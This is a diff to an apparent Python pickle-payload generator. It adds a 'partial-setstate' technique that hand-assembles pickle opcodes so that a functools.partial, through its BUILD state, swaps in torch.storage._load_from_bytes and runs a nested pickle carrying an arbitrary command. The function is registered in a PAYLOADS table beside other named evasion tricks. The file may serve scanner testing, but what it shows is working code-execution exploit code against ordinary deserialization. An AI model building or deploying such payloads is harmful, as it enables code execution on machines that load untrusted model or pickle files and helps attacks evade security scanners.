@@ -167,6 +167,15 @@ def partial_nested(command: str) -> bytes:
     return proto(2) + made + MARK + TUPLE + REDUCE + STOP
 
 
+def partial_setstate(command: str) -> bytes:
+    """A partial of a harmless callable whose BUILD state (partial.__setstate__) swaps in a
+    nested loader and its pickle; called, it runs that pickle."""
+    made = call(global_("functools", "partial"), global_("builtins", "int"))
+    state = MARK + global_("torch.storage", "_load_from_bytes") + MARK \
+        + binbytes(classic(command)) + TUPLE + EMPTY_DICT + NONE + TUPLE
+    return proto(2) + made + state + BUILD + MARK + TUPLE + REDUCE + STOP
+
+
 def utf16_nested(command: str) -> bytes:
     """A nested pickle whose bytes come from _codecs.encode(text, 'utf-16-le'): read as
     latin-1 they are other bytes."""
@@ -236,6 +245,7 @@ PAYLOADS: dict[str, Callable[[str], bytes]] = {
     "generator-ctor": generator_ctor,
     "partial-nested": partial_nested,
     "utf16-nested": utf16_nested,
+    "partial-setstate": partial_setstate,
     "dynamic-name": dynamic_name,
     "extension-code": extension_code,
     "build-on-function": build_on_function,
